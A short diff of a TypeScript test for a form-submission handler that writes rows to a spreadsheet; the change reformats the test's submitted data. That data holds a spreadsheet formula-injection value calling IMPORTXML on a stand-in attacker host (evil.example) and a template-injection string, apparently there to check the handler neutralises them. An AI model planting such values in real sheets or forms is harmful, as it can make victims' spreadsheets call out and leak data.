@@ -21,7 +21,11 @@ test('it adds a row for each submission once, for whoever has the token, and no 
 		HtmlService: { createHtmlOutput: (text: string) => text },
 	};
 	const doPost = new Function(...Object.keys(services), `${program}; return doPost;`)(...Object.values(services));
-	const data = JSON.stringify({ name: '=IMPORTXML("https://evil.example")', email: 'ada@example.com', message: '{{name}} "x"' });
+	const data = JSON.stringify({
+		name: '=IMPORTXML("https://evil.example")',
+		email: 'ada@example.com',
+		message: '{{name}} "x"',
+	});
 	const told = {
 		headline: 'new submission',
 		form: { id: 1, name: 'Contact', fields: null },
